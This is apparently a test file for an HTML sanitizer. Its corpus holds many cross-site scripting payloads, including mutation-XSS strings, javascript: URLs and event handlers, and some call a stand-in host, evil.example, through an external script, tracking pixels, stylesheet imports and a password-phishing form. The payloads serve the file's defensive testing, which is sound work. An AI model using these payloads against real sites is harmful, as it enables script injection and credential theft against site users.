/**
 * Nothing that executes survives cleaning. What comes out is read by a strict grammar of its own: plain text and
 * whole, nested tags from a short list with quoted attributes from a shorter one. Such a text has one reading in every
 * browser, so there is nothing left for a mutation to work on.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml, cleanText } from './clean.ts';

const inert = new Set(
  'p br hr h2 h3 h4 blockquote pre ul ol li dl dt dd strong b em i u s small sub sup code mark a img table caption thead tbody tr th td'.split(
    ' ',
  ),
);
const empty = new Set(['br', 'hr', 'img']);
const attributes: Readonly<Record<string, RegExp>> = {
  'a href': /^(\/([^/\\]|$)|https:\/\/[^/])/i,
  'a rel': /^noopener( noreferrer nofollow)?$/,
  'a target': /^_blank$/,
  'img src': /^\/([^/\\]|$)/,
  'img alt': /^/,
  'img width': /^\d{1,4}$/,
  'img height': /^\d{1,4}$/,
  'th colspan': /^\d{1,4}$/,
  'th rowspan': /^\d{1,4}$/,
  'td colspan': /^\d{1,4}$/,
  'td rowspan': /^\d{1,4}$/,
  'ol start': /^\d{1,4}$/,
};
const tag = /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( ?\/)?>/y;

/** What is wrong with a cleaned text; undefined when it is inert. */
function fault(html: string): string | undefined {
  const open: string[] = [];
  for (let at = 0; at < html.length; ) {
    if (html[at] !== '<') {
      if (html[at] === '>') return `a bare > at ${at}`;
      at += 1;
      continue;
    }
    tag.lastIndex = at;
    const found = tag.exec(html);
    if (found === null) return `no tag at ${at}`;
    const [whole, close, name = '', rest = ''] = found;
    if (!inert.has(name)) return `the tag ${name}`;
    for (const [, key = '', value = ''] of rest.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (attributes[`${name} ${key}`]?.test(value.replaceAll('&amp;', '&')) !== true) return `${name} ${key}=${value}`;
    }
    if (close === '/') {
      if (open.pop() !== name) return `</${name}> closes another`;
    } else if (!empty.has(name)) open.push(name);
    at += whole.length;
  }
  return open.length > 0 ? `${open.join(' ')} is left open` : undefined;
}

const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=/x.png onerror=alert(1) onload="alert(2)">',
  '<img/src=`x`onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x 1x" src="/a.png">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#106;avascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\t/evil.example">a</a>',
  '<a href="https://ok.example" target="_top" rel="opener">a</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example";</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video><source onerror="alert(1)"></video><audio src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)><p id=x tabindex=1 onfocus=alert(1)></p>',
  '<p><table><tr><td></p><script>alert(1)</script></td>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>a\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<img alt="`><script>alert(1)</script>" src="/a.png">',
  '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">a</a>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>a&#3;b&#x0;c</p>',
  '<p',
  '<p title="',
  '</p></strong>',
];

describe('cleaned HTML', () => {
  it.each(corpus.map((html) => [html]))('is inert: %s', (html) => {
    const clean = cleanHtml(html);
    expect(fault(clean), clean).toBeUndefined();
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('is inert whatever is put together', () => {
    const piece = fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...corpus) },
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          ...[
            '<',
            '>',
            '"',
            "'",
            '`',
            '&',
            '&lt;',
            '&#x3c;',
            '<!--',
            '-->',
            '</',
            '/>',
            '<p>',
            '</p>',
            '<table>',
            '<td>',
          ],
          ...[
            '<svg>',
            '</svg>',
            '<math>',
            '<style>',
            '</style>',
            '<noscript>',
            '<a href="',
            '<img src="/',
            ' onerror=alert(1)',
          ],
        ),
      },
      { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
    );
    // A piece may also be cut short or stand inside another.
    const cut = fc.tuple(piece, fc.nat({ max: 60 })).map(([text, at]) => text.slice(0, at));
    const inside = fc.tuple(piece, piece, fc.nat({ max: 60 })).map(([a, b, at]) => a.slice(0, at) + b + a.slice(at));
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, cut, inside), { maxLength: 8 }), (parts) => {
        const clean = cleanHtml(parts.join(''));
        expect(fault(clean), clean).toBeUndefined();
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { seed: Number(process.env['BANYAN_SEED']), numRuns: 4000 },
    );
  });

  it('keeps what a text needs', () => {
    const html =
      '<h2>Title</h2><p><strong>bold</strong> and <em>so on</em><br /></p><ul><li>one</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><img src="/images/a.svg" alt="a" width="10" />';
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml('<h1>a</h1>')).toBe('<h2>a</h2>');
  });

  it('lets links lead to this site or to https, and hands nothing of the page over', () => {
    expect(cleanHtml('<a href="/help">a</a>')).toBe('<a href="/help" rel="noopener">a</a>');
    expect(cleanHtml('<a href="https://example.org/?a=1&amp;b=2" target="_self">a</a>')).toBe(
      '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
    expect(cleanHtml('<a href="http://example.org">a</a>')).toBe('<a>a</a>');
  });

  it('drops the content of what is code and keeps that of what is only unknown', () => {
    expect(cleanHtml('<p>a<script>alert(1)</script><font color="red">b</font></p>')).toBe('<p>ab</p>');
  });
});

it('the grammar of this test tells bad from good', () => {
  for (const bad of [
    '<script>',
    '<p onclick="a">x</p>',
    '<a href="javascript:x">a</a>',
    '<p>',
    '</p>',
    '<p title=x>',
    '<',
    '>',
  ])
    expect(fault(bad), bad).toBeDefined();
});

it('plain text loses what nobody sees and stays on one line', () => {
  expect(cleanText('  a\u0000b\n\tc \ud800 ')).toBe('ab c \ufffd');
});
